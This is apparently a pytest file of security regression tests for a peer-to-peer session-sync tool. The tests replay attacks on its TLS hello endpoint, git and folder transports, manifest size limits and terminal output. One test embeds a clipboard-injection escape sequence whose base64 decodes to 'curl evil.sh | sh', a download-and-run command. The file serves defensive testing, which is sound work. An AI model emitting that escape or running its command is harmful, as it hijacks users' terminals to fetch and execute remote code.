"""The mesh under a real attacker (#34): each test is one attack that got through, reproduced
with real TLS on 127.0.0.1, real git and real folders, and what must hold instead."""
from __future__ import annotations

import base64
import datetime as dt
import json
import os
import socket
import ssl
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, cli_env, run_json
from meshkit import GOOD, entry, forge, introduce, mesh, remote, seal_as, transport_args, two  # noqa: F401 (fixtures)


# ------------------------------------------------------------------------------- helpers

def _tls(port: int, cert: tuple | None = None) -> ssl.SSLSocket:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    if cert:
        ctx.load_cert_chain(*cert)
    return ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))


def _post_hello(port: int, body: bytes) -> int:
    s = _tls(port)
    try:
        s.sendall(b"POST /v2/hello HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        answer = s.recv(200)
        return int(answer.split()[1]) if answer else 0  # (0: the server dropped the connection)
    finally:
        s.close()


def _ca_and_leaf(tmp_path: Path, tag: str) -> tuple:
    """A stranger's CA certificate, and a client certificate + key it issued (PEM paths)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    now = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=1)

    def make(cn, key, issuer, issuer_key, ca):
        return (x509.CertificateBuilder().subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)]))
                .issuer_name(issuer).public_key(key.public_key()).serial_number(x509.random_serial_number())
                .not_valid_before(now).not_valid_after(now + dt.timedelta(days=30))
                .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
                .sign(issuer_key, hashes.SHA256()))
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, f"stranger ca {tag}")])
    ca = make(f"stranger ca {tag}", ca_key, ca_name, ca_key, True)
    leaf_key = ec.generate_private_key(ec.SECP256R1())
    leaf = make("stranger", leaf_key, ca_name, ca_key, False)
    pem = serialization.Encoding.PEM
    cp, kp = tmp_path / f"leaf-{tag}.crt", tmp_path / f"leaf-{tag}.key"
    cp.write_bytes(leaf.public_bytes(pem))
    kp.write_bytes(leaf_key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return ca.public_bytes(pem), (str(cp), str(kp))


def _peak_rss_mb(args: list, home: Path) -> tuple[float, subprocess.CompletedProcess]:
    """Run the CLI in a child of a fresh interpreter and return the child's peak RSS (MB)."""
    probe = ("import resource, subprocess, sys\n"
             "p = subprocess.run(sys.argv[1:], capture_output=True)\n"
             "sys.stderr.buffer.write(p.stderr)\n"
             "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024, p.returncode)\n")
    p = subprocess.run([sys.executable, "-c", probe, sys.executable, "-m", "chrollo", *args],
                       capture_output=True, text=True, env=cli_env(home), timeout=300)
    rss, rc = p.stdout.split()
    return float(rss), subprocess.CompletedProcess(args, int(rc), "", p.stderr)


# ------------------------------------------------------------ 6. hello: bounded and sanitised

def test_a_strangers_hello_with_junk_never_kills_serve_nor_plants_a_ca(mesh, tmp_path):
    """A stranger (no client certificate) posts a paired peer's public certificate plus a junk
    PEM block, then the same certificate plus a stranger CA: nothing of it is stored or
    trusted, junk is rate-limited, the server restarts fine and the peer still syncs."""
    a, b = two(mesh, lan=True)
    junk = b"-----BEGIN CERTIFICATE-----\nAAAAAAAA\n-----END CERTIFICATE-----\n"
    assert _post_hello(b.port, a.identity().cert_pem + junk) != 204
    ca, leaf = _ca_and_leaf(tmp_path, "1")
    codes = [_post_hello(b.port, a.identity().cert_pem + ca) for _ in range(15)]
    assert 204 not in codes and 429 in codes, codes
    stored = b.home / "mesh" / "certs" / f"{a.id}.pem"
    assert not stored.exists() or stored.read_bytes() == a.identity().cert_pem
    with pytest.raises((ssl.SSLError, OSError)):  # the stranger CA is not in the trust store
        s = _tls(b.port, leaf)
        s.sendall(b"GET /v2/manifest HTTP/1.1\r\nHost: x\r\n\r\n")
        assert s.recv(100)  # (TLS 1.3 reports a refused client certificate on the first read)
    p, out = a.sync("--all")
    assert p.returncode == 0 and out["peers"][0]["downloaded"] == 1, out
    b.stop()
    b.serve()  # a stored certificate never stops a later start
    a.cli("mesh", "peers", "set", "bravo", "--address", b.address)
    b.session("bbbb0002-x", "after the restart", start="2026-10-02T10:00:00")
    p, out = a.sync("--all")
    assert p.returncode == 0 and out["peers"][0]["downloaded"] == 1, out


# ---------------------------------------------- 8. a folder or a bad tree where a manifest was

def test_a_directory_in_place_of_a_manifest_never_stops_a_folder_sync(mesh, tmp_path):
    a, b = two(mesh)
    c = mesh("charlie")
    c.session("cccc0001-x", "charlie writes the release notes")
    for x, y in ((a, c), (c, a)):
        x.pair(y)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b, c)
    assert a.peer_files("charlie")
    shared = Path(args[1])
    for who in (a, b):  # the victim's own folder, and a peer's
        (shared / who.id / "manifest.json").unlink()
        (shared / who.id / "manifest.json").mkdir()
        (shared / who.id / "manifest.json" / "x").write_text("x")
    c.session("cccc0002-x", "charlie adds a second session", start="2026-10-02T10:00:00")
    c.sync(*args)
    p, out = a.sync(*args)
    res = {r["peer"]: r for r in out["peers"]}
    assert p.returncode == 1 and res["bravo"]["errors"] and "not a regular file" in res["bravo"]["errors"][0], out
    assert res["charlie"]["downloaded"] == 1 and not res["charlie"]["errors"]
    assert not out["errors"] and (shared / a.id / "manifest.json").is_file()  # its own folder is its own


def _git(repo: Path, *args, input: bytes | None = None) -> str:
    return subprocess.run(["git", "--git-dir", str(repo), *args], input=input, capture_output=True,
                          check=True).stdout.decode().strip()


def test_a_tree_posing_as_a_manifest_never_desynchronises_the_git_reader(mesh, tmp_path, remote):
    """manifest.json (mode 100644) pointing at a tree whose first entry is named
    ``blob 99999999\\n``: the object reader must not take the tree's bytes for a header."""
    a, b = two(mesh)
    c = mesh("charlie")
    c.session("cccc0001-x", "charlie writes the release notes")
    for x, y in ((a, c), (c, a)):
        x.pair(y)
    args = transport_args("git", tmp_path, remote)
    introduce(args, a, b, c)
    def tree(entries) -> str:  # a raw tree object, written as it is (git would refuse to make it)
        raw = b"".join(b"%s %s\0%s" % (m, n, bytes.fromhex(o)) for m, n, o in sorted(entries, key=lambda e: e[1]))
        return _git(remote, "hash-object", "-w", "-t", "tree", "--literally", "--stdin", input=raw)

    def rows(oid) -> list:
        out = []
        for line in _git(remote, "ls-tree", oid).splitlines():
            meta, name = line.split("\t")
            mode, _typ, o = meta.split()
            out.append((mode.lstrip("0").encode(), name.encode(), o))
        return out
    blob = _git(remote, "hash-object", "-w", "--stdin", input=b"x")
    evil = tree([(b"100644", b"blob 99999999\n", blob)])
    head = _git(remote, "rev-parse", "chrollo-mesh")
    top = []
    for mode, name, oid in rows(head):
        if name == b.id.encode():
            oid = tree([r for r in rows(oid) if r[1] != b"manifest.json"] + [(b"100644", b"manifest.json", evil)])
        top.append((mode, name, oid))
    commit = _git(remote, "commit-tree", tree(top), "-p", head, "-m", "attack")
    _git(remote, "update-ref", "refs/heads/chrollo-mesh", commit)
    c.session("cccc0002-x", "charlie adds a second session", start="2026-10-02T10:00:00")
    c.sync(*args)
    p, out = a.sync(*args)  # run() has a 120 s timeout: a blocked reader fails the test
    res = {r["peer"]: r for r in out["peers"]}
    assert p.returncode == 1 and "not a blob" in " ".join(res["bravo"]["errors"]), out
    assert res["charlie"]["downloaded"] == 1 and not res["charlie"]["errors"], out


# ------------------------------------------------------ 9. bounds checked before any parsing

@pytest.mark.parametrize("where", ["escapes", "cert"])
def test_a_huge_unsigned_outer_manifest_is_refused_before_it_costs_memory(mesh, tmp_path, where):
    a, b = two(mesh)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    target = Path(args[1]) / b.id / "manifest.json"
    env = json.loads(target.read_bytes())
    if where == "escapes":
        raw = (json.dumps(env)[:-1] + ', "pad": "' + "\\u0000" * (28_000_000 // 6) + '"}').encode()
    else:
        env["cert"] = "-----BEGIN CERTIFICATE-----\n" + "A" * (10 << 20) + "\n-----END CERTIFICATE-----\n"
        raw = json.dumps(env).encode()
    target.write_bytes(raw)
    rss, p = _peak_rss_mb(["mesh", "sync", *args, "--json"], a.home)
    assert p.returncode == 1, p.stderr
    assert rss < 250, f"peak RSS {rss:.0f} MB"


# ----------------------------------------- 12. what a peer supplies never reaches a terminal raw

def test_escapes_in_a_peers_manifest_never_reach_the_terminal(mesh, tmp_path):
    a, b = two(mesh)
    args = transport_args("folder", tmp_path)
    introduce(args, a, b)
    evil = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    bad = dict(entry("2026-10-09_000000_x.md", GOOD), size=evil)
    inner = forge(b.identity(), [bad], seq=50)
    outer, _ = seal_as(b.identity(), {a.id: a.identity().cert_pem}, inner, {})
    (Path(args[1]) / b.id / "manifest.json").write_bytes(outer)
    for cmd in (["mesh", "sync", *args], ["mesh", "status"]):
        p = a.cli(*cmd)
        assert "\x1b" not in p.stdout + p.stderr and "\x07" not in p.stdout + p.stderr, (cmd, p.stderr)
    assert "size refused" in a.cli("mesh", "status").stdout
